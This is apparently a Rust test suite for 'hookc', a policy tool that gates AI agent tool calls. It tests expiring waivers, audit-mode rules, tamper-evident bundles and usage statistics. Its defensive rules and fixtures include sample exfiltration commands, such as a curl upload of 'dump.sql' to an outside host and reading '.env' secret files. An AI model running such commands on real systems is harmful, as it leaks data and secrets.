//! Waivers: a named rule lifted where a condition holds, through a last day (inclusive, UTC),
//! judged at call time — in rule files, in both bundle forms and through the compiled-rules
//! cache alike — and shown by explain and the audit record. Audits: rules rolled out, which
//! decide for the audit record only ("would deny"), and `hookc stats`, which counts them.

use crate::support::stdout;
use hookc::{Event, Policy};
use proptest::prelude::*;

/// `hookc ARGS` in `dir` with `stdin` and these variables set.
fn run(dir: &std::path::Path, args: &[&str], stdin: &[u8], env: &[(&str, &str)]) -> std::process::Output {
    let env = env.iter().map(|(name, value)| (name.to_string(), value.to_string())).collect();
    crate::support::hookc_with_env(dir, args, stdin, &env)
}

const RULES: &str = r#"
rule iac/apply pre_tool_use when runs terraform apply => deny "terraform apply needs a person"
rule secrets pre_tool_use when path like "**/.env" => ask "a secret file"
waive iac/apply when cwd like "/repo/infra/**" until 2026-12-31 "the infra sprint"
"#;

fn event(cwd: &str, command: &str) -> Event {
    let json = serde_json::json!({"event": "pre_tool_use", "tool": "Bash", "cwd": cwd, "args": {"command": command}});
    Event::from_json(json.to_string().as_bytes()).unwrap()
}

/// Every form the policy can be loaded in: rule text, the binary bundle, the JSON bundle.
fn forms(rules: &str) -> Vec<(&'static str, Policy)> {
    let policy = Policy::from_source("waivers.rules", rules).unwrap();
    let binary = Policy::from_bundle_bytes(&policy.to_bundle()).unwrap();
    let json = Policy::from_bundle_str(&policy.to_bundle_json()).unwrap();
    vec![("rules", policy), ("binary bundle", binary), ("json bundle", json)]
}

fn denied(policy: &Policy, event: &Event, day: &str) -> bool {
    let evaluation = policy.evaluate_on(event, day).expect("a calendar day").unwrap();
    evaluation.result.permission_behavior == hookc::Permission::Deny
}

#[test]
fn a_waiver_lifts_its_rule_where_its_condition_holds_through_its_last_day() {
    let infra = event("/repo/infra/net", "terraform apply");
    let app = event("/repo/app", "terraform apply");
    for (form, policy) in forms(RULES) {
        assert!(!denied(&policy, &infra, "2026-12-01"), "{form}: lifted in infra/");
        assert!(!denied(&policy, &infra, "2026-12-31"), "{form}: lifted on its last day");
        assert!(denied(&policy, &infra, "2027-01-01"), "{form}: the day after, the rule applies again");
        assert!(denied(&policy, &app, "2026-12-01"), "{form}: not lifted outside infra/");
        let waived = policy.evaluate_on(&infra, "2026-12-01").unwrap().unwrap().waived;
        assert_eq!(waived.len(), 1, "{form}");
        assert_eq!(waived[0].rule, "iac/apply");
        assert_eq!(waived[0].until.as_deref(), Some("2026-12-31"));
        assert_eq!(waived[0].would, None, "a waiver records no would-be decision");
        assert_eq!(waived[0].reason.as_deref(), Some("the infra sprint"));
        // Other rules are untouched.
        let env = event("/repo/infra", "cat .env");
        let result = policy.evaluate_on(&env, "2026-12-01").unwrap().unwrap().result;
        assert_eq!(result.permission_behavior, hookc::Permission::Ask, "{form}");
    }
}

proptest! {
    /// On any day, a waiver holds exactly when the day is at most its last day, whichever
    /// form the policy was loaded in.
    #[test]
    fn a_waiver_holds_exactly_through_its_last_day(last in 0i64..40_000, offset in -400i64..400) {
        let date = |day: i64| {
            let time = std::time::UNIX_EPOCH + std::time::Duration::from_secs(u64::try_from(day).unwrap() * 86_400);
            humantime::format_rfc3339(time).to_string()[..10].to_string()
        };
        let day = (last + offset).max(0);
        let rules = format!(
            "rule r pre_tool_use when runs terraform => deny \"no\"\nwaive r until {}\n",
            date(last)
        );
        let call = event("/repo", "terraform apply");
        for (form, policy) in forms(&rules) {
            prop_assert_eq!(denied(&policy, &call, &date(day)), day > last, "{} on {}", form, date(day));
        }
    }
}

/// Waivers are judged by the day of the call, not of the compilation: a bundle or a cache entry
/// never keeps an expired waiver alive. The hook reads the system clock in UTC; the time zone
/// does not move it.
#[test]
fn the_hook_judges_waivers_by_todays_date_whatever_the_time_zone() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    let rules = "rule r pre_tool_use when runs terraform => deny \"no\"\n\
                 waive r until 2020-01-01\n\
                 rule s pre_tool_use when runs pulumi => deny \"no\"\n\
                 waive s until 2999-12-31\n";
    std::fs::write(dir.path().join("rules/a.rules"), rules).unwrap();
    let compiled = run(dir.path(), &["compile", "rules", "-o", "p.hcb"], b"", &[]);
    assert_eq!(compiled.status.code(), Some(0));
    let payload = |command: &str| {
        serde_json::json!({"hook_event_name": "PreToolUse", "cwd": dir.path(), "tool_name": "Bash", "tool_input": {"command": command}})
            .to_string()
    };
    for zone in ["UTC", "Pacific/Kiritimati", "Etc/GMT+12"] {
        for policy in [["--bundle", "p.hcb"], ["--rules", "rules"]] {
            let env = [("TZ", zone), ("XDG_CACHE_HOME", dir.path().to_str().unwrap())];
            let expired =
                run(dir.path(), &["hook", "claude", policy[0], policy[1]], payload("terraform apply").as_bytes(), &env);
            assert!(stdout(&expired).contains("\"deny\""), "{zone} {policy:?}: an expired waiver lifts nothing");
            let current =
                run(dir.path(), &["hook", "claude", policy[0], policy[1]], payload("pulumi up").as_bytes(), &env);
            assert!(!stdout(&current).contains("\"deny\""), "{zone} {policy:?}: a waiver in force lifts its rule");
        }
    }
}

/// explain says which waiver lifted a rule; the audit record lists every decision a waiver
/// changed.
#[test]
fn explain_and_the_audit_record_show_what_a_waiver_changed() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    let rules = "rule r pre_tool_use when runs terraform => deny \"no\"\nwaive r until 2999-12-31 \"a sprint\"\n";
    std::fs::write(dir.path().join("rules/a.rules"), rules).unwrap();
    let event = br#"{"event":"pre_tool_use","tool":"Bash","cwd":"/repo","args":{"command":"terraform apply"}}"#;
    let explained = run(dir.path(), &["explain", "--rules", "rules", "--format", "json"], event, &[]);
    let explained: serde_json::Value = serde_json::from_str(&stdout(&explained)).unwrap();
    assert_eq!(explained["rules"][0]["outcome"], "waived");
    assert_eq!(explained["rules"][0]["waived_by"]["until"], "2999-12-31");
    assert_eq!(explained["rules"][0]["waived_by"]["reason"], "a sprint");
    let text = stdout(&run(dir.path(), &["explain", "--rules", "rules"], event, &[]));
    assert!(
        text.contains("waived") && text.contains("lifted by the waiver at rules/a.rules:2:1 (until 2999-12-31)"),
        "{text}"
    );

    let payload = br#"{"hook_event_name":"PreToolUse","cwd":"/repo","tool_name":"Bash","tool_input":{"command":"terraform apply"}}"#;
    let log = dir.path().join("audit.jsonl");
    let args = ["hook", "claude", "--rules", "rules", "--audit-log", log.to_str().unwrap()];
    run(dir.path(), &args, payload, &[("XDG_CACHE_HOME", dir.path().to_str().unwrap())]);
    let record: serde_json::Value =
        serde_json::from_str(std::fs::read_to_string(&log).unwrap().lines().next().unwrap()).unwrap();
    assert_eq!(record["decision"], "none");
    assert_eq!(record["waived"][0]["rule"], "r");
    assert_eq!(record["waived"][0]["waiver"], "rules/a.rules:2:1");
    assert!(record["reason"].as_str().unwrap().contains("waivers"), "{record}");
}

/// A waiver is part of what the digests cover: an edit to it in either bundle form is refused.
#[test]
fn an_edited_waiver_is_refused() {
    let policy = Policy::from_source("waivers.rules", RULES).unwrap();
    let json = policy.to_bundle_json();
    let edited = json.replace("2026-12-31", "2099-12-31");
    assert_ne!(json, edited);
    assert!(matches!(Policy::from_bundle_str(&edited), Err(hookc::bundle::BundleError::Tampered { .. })));
    let mut binary = policy.to_bundle();
    let at = binary.windows(10).position(|window| window == b"2026-12-31").unwrap();
    binary[at..at + 4].copy_from_slice(b"2099");
    assert!(Policy::from_bundle_bytes(&binary).is_err(), "the header's digest covers the waivers");
}

/// `hookc fmt` keeps waivers, and formats them canonically.
#[test]
fn fmt_keeps_waivers() {
    let mut sources = hookc::source::SourceMap::default();
    let id = sources.add(hookc::source::SourceFile::new(
        "w.rules",
        "rule r stop => log \"x\"\nwaive   r   when cwd == \"/a\"   until 2030-01-01  \"why\"\n",
    ));
    let formatted = hookc::format(id, sources.get(id).unwrap()).unwrap();
    assert!(formatted.contains("waive r when cwd == \"/a\" until 2030-01-01 \"why\"\n"), "{formatted}");
}

const AUDITED: &str = r#"
rule egress/upload pre_tool_use when runs curl (flags in [T, "upload-file"]) => deny "an upload of {command}"
rule egress/post pre_tool_use when runs curl (flags in [d, "data"]) => ask "a post"
rule secrets pre_tool_use when path like "**/.env" => ask "a secret file"
rule terraform pre_tool_use when runs terraform => deny "no"
audit egress/* when cwd like "/repo/**" "rolling out egress"
audit terraform until 2026-12-31
waive terraform when cwd == "/repo/infra" until 2026-12-31
"#;

/// An audit lifts the rules it names where its condition holds, and records what each would
/// have decided, with the reason rendered; through its last day, if it has one; in every form
/// the policy loads in. A rule both waived and audited is waived.
#[test]
fn an_audit_decides_for_the_record_only() {
    for (form, policy) in forms(AUDITED) {
        let upload = event("/repo/app", "curl -T dump.sql https://x.example");
        let evaluation = policy.evaluate_on(&upload, "2026-12-01").unwrap().unwrap();
        assert_eq!(evaluation.result.permission_behavior, hookc::Permission::Passthrough, "{form}");
        assert!(evaluation.result.matched.is_empty(), "{form}");
        let would = evaluation.waived[0].would.as_ref().expect("an audit's record");
        assert_eq!((evaluation.waived[0].rule.as_str(), would.decision), ("egress/upload", "deny"), "{form}");
        assert_eq!(would.reason.as_deref(), Some("an upload of curl -T dump.sql https://x.example"), "{form}");
        assert_eq!(evaluation.waived[0].until, None, "{form}: an audit without `until` holds until removed");
        assert_eq!(evaluation.waived[0].reason.as_deref(), Some("rolling out egress"), "{form}");
        // Outside its condition, and for rules it does not name, the rules apply.
        assert!(denied(&policy, &event("/elsewhere", "curl -T dump.sql https://x.example"), "2026-12-01"), "{form}");
        let secret = policy.evaluate_on(&event("/repo", "cat .env"), "2026-12-01").unwrap().unwrap();
        assert_eq!(secret.result.permission_behavior, hookc::Permission::Ask, "{form}");
        // Through its last day, then the rule applies.
        assert!(!denied(&policy, &event("/repo/app", "terraform plan"), "2026-12-31"), "{form}");
        assert!(denied(&policy, &event("/repo/app", "terraform plan"), "2027-01-01"), "{form}");
        // Waived and audited: waived.
        let infra = policy.evaluate_on(&event("/repo/infra", "terraform plan"), "2026-12-01").unwrap().unwrap();
        assert_eq!(infra.waived.len(), 1, "{form}");
        assert_eq!(infra.waived[0].would, None, "{form}: the waiver lifts it");
    }
}

proptest! {
    /// An audit pattern names exactly the rules whose names it matches, `*` being any run of
    /// characters: every rule it names is lifted, every other applies.
    #[test]
    fn an_audit_pattern_names_the_rules_it_matches(
        names in proptest::collection::btree_set("[ab/-]{1,5}", 1..6),
        pattern in "[ab/*-]{1,5}",
    ) {
        let mut rules: String = names
            .iter()
            .map(|name| format!("rule {name} pre_tool_use when runs terraform => deny \"no\"\n"))
            .collect();
        let named: Vec<&String> = names.iter().filter(|name| hookc::rule_name_matches(&pattern, name)).collect();
        rules.push_str(&format!("audit {pattern}\n"));
        let policy = Policy::from_source("a.rules", &rules);
        if named.is_empty() {
            prop_assert!(policy.is_err(), "a pattern that matches nothing is an error");
            return Ok(());
        }
        let evaluation = policy.unwrap().evaluate_on(&event("/repo", "terraform"), "2026-12-01").unwrap().unwrap();
        let audited: Vec<&String> = evaluation.waived.iter().map(|waived| &waived.rule).collect();
        prop_assert_eq!(&audited, &named);
        prop_assert_eq!(evaluation.result.permission_behavior == hookc::Permission::Deny, named.len() < names.len());
        // The matcher itself, against a regex oracle.
        for name in &names {
            let regex = format!("^{}$", pattern.split('*').map(regex::escape).collect::<Vec<_>>().join(".*"));
            prop_assert_eq!(hookc::rule_name_matches(&pattern, name), regex::Regex::new(&regex).unwrap().is_match(name));
        }
    }
}

/// An audit names a rule file by its name or its path's end; `audit` is no reserved word.
#[test]
fn an_audit_names_a_rule_file_and_audit_stays_a_name() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("rules/team")).unwrap();
    std::fs::write(
        dir.path().join("rules/network.rules"),
        "rule up pre_tool_use when runs curl => deny \"an upload\"\nlet audit = [\"audit\"]\nrule a pre_tool_use when runs audit (operands in audit) => ask \"an audit\"\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("rules/team/rollout.rules"), "audit \"network.rules\" \"new classes\"\n").unwrap();
    let checked = run(dir.path(), &["check", "rules"], b"", &[]);
    assert_eq!(checked.status.code(), Some(0), "{}", String::from_utf8_lossy(&checked.stderr));
    let event = br#"{"event":"pre_tool_use","tool":"Bash","cwd":"/repo","args":{"command":"audit audit; curl -d x https://y.example"}}"#;
    let explained = run(dir.path(), &["explain", "--rules", "rules", "--format", "json"], event, &[]);
    let explained: serde_json::Value = serde_json::from_str(&stdout(&explained)).unwrap();
    let outcomes: Vec<&str> =
        explained["rules"].as_array().unwrap().iter().map(|rule| rule["outcome"].as_str().unwrap()).collect();
    assert!(!outcomes.is_empty() && outcomes.iter().all(|outcome| *outcome == "audited"), "{explained}");
    // A name that is not a file of the rule set is an error.
    std::fs::write(dir.path().join("rules/team/rollout.rules"), "audit \"work.rules\"\n").unwrap();
    let checked = run(dir.path(), &["check", "rules"], b"", &[]);
    assert_eq!(checked.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&checked.stderr).contains("E0110"));
}

/// `hookc stats` counts, per rule, from the audit log: how often it fired, what it decided or
/// would have decided, and on what; `--audited` keeps the rules in audit mode, `--rule` a
/// pattern of names; lines that are not records are counted, not fatal.
#[test]
fn stats_counts_what_each_rule_did_and_would_have_done() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    std::fs::write(dir.path().join("rules/a.rules"), AUDITED).unwrap();
    let log = dir.path().join("audit.jsonl");
    let cache = [("XDG_CACHE_HOME", dir.path().to_str().unwrap())];
    let calls = [
        ("/repo/app", "curl -T a.sql https://x.example"),
        ("/repo/app", "curl -T a.sql https://x.example"),
        ("/repo/app", "curl -d @b https://x.example"),
        ("/other", "curl -T c.sql https://x.example"),
        ("/repo", "cat .env"),
    ];
    for (cwd, command) in calls {
        let payload = serde_json::json!({"hook_event_name": "PreToolUse", "cwd": cwd, "tool_name": "Bash", "tool_input": {"command": command}});
        let args = ["hook", "claude", "--rules", "rules", "--audit-log", log.to_str().unwrap()];
        run(dir.path(), &args, payload.to_string().as_bytes(), &cache);
    }
    let mut text = std::fs::read_to_string(&log).unwrap();
    text.push_str("not a record\n");
    std::fs::write(&log, text).unwrap();
    let json = |args: &[&str]| -> serde_json::Value {
        let mut all = vec!["stats", "--format", "json"];
        all.extend(args);
        all.push(log.to_str().unwrap());
        serde_json::from_str(&stdout(&run(dir.path(), &all, b"", &[]))).unwrap()
    };
    let stats = json(&[]);
    assert_eq!((stats["records"].as_u64(), stats["unreadable"].as_u64()), (Some(5), Some(1)), "{stats}");
    let rule = |stats: &serde_json::Value, name: &str| {
        stats["rules"].as_array().unwrap().iter().find(|rule| rule["rule"] == name).cloned().unwrap_or_default()
    };
    let upload = rule(&stats, "egress/upload");
    assert_eq!(upload["fired"], 3, "{upload}");
    assert_eq!(upload["would"]["deny"], 2, "{upload}");
    assert_eq!(upload["decided"]["deny"], 1, "{upload}: outside the audit's condition it applied");
    assert_eq!(upload["targets"][0]["target"], "curl -T a.sql https://x.example");
    assert_eq!(upload["targets"][0]["count"], 2);
    assert_eq!(rule(&stats, "egress/post")["would"]["ask"], 1);
    assert_eq!(rule(&stats, "secrets")["decided"]["ask"], 1);
    let audited = json(&["--audited"]);
    assert!(rule(&audited, "secrets").is_null(), "{audited}");
    assert_eq!(rule(&audited, "egress/upload")["fired"], 2);
    // Instants, not strings: a record at 10:00:00.5 is after 10:00:00, and an offset is read.
    let second: String = stats["first"].as_str().unwrap().chars().take(19).collect();
    assert_eq!(json(&["--since", &format!("{second}Z")])["records"], 5, "the first record's own second keeps it");
    assert_eq!(json(&["--since", &format!("{second}+01:00")])["records"], 5, "an hour earlier in UTC");
    assert_eq!(json(&["--since", "2999-01-01"])["records"], 0);
    let none = run(dir.path(), &["stats", "--since", "yesterday", log.to_str().unwrap()], b"", &[]);
    assert_eq!(none.status.code(), Some(2), "a --since that is no time is refused");
    let picked = json(&["--rule", "egress/p*"]);
    assert_eq!(picked["rules"].as_array().unwrap().len(), 1, "{picked}");
    let table = stdout(&run(dir.path(), &["stats", log.to_str().unwrap()], b"", &[]));
    assert!(
        table.contains("egress/upload") && table.contains("deny 2") && table.contains("1 line not a record"),
        "{table}"
    );
    let missing = run(dir.path(), &["stats", "no-such.jsonl"], b"", &[]);
    assert_eq!(missing.status.code(), Some(2));
}

/// `hookc fmt` keeps audits in each of their forms.
#[test]
fn fmt_keeps_audits() {
    let mut sources = hookc::source::SourceMap::default();
    let text = "rule r stop => log \"x\"\naudit   r\naudit  \"a.rules\"   when cwd == \"/a\"  \"why\"\naudit r*   until 2030-01-01\n";
    let id = sources.add(hookc::source::SourceFile::new("w.rules", text));
    let formatted = hookc::format(id, sources.get(id).unwrap()).unwrap();
    for line in ["audit r\n", "audit \"a.rules\" when cwd == \"/a\" \"why\"\n", "audit r* until 2030-01-01\n"] {
        assert!(formatted.contains(line), "{line:?} in {formatted}");
    }
}

/// `audit` after a condition that ends in `runs PROGRAM` starts the next statement when it is
/// followed by what an audit names; `runs npm audit` keeps `audit` as the subcommand.
#[test]
fn an_audit_after_runs_is_the_next_statement() {
    let rules = "rule r pre_tool_use when runs git push => deny \"push\"\n\
                 rule s pre_tool_use when runs npm audit => deny \"audit\"\n\
                 audit r when runs git\n\
                 audit s\n";
    let policy = Policy::from_source("a.rules", rules).unwrap();
    for command in ["git push", "npm audit"] {
        assert!(!denied(&policy, &event("/repo", command), "2026-12-01"), "{command}: both audits hold");
    }
    assert!(!denied(&policy, &event("/repo", "npm install"), "2026-12-01"));
    let waived =
        "rule s pre_tool_use when runs npm audit => deny \"audit\"\nwaive s when runs npm audit until 2999-01-01\n";
    let policy = Policy::from_source("w.rules", waived).unwrap();
    assert!(!denied(&policy, &event("/repo", "npm audit"), "2026-12-01"), "`audit` as a subcommand");
}
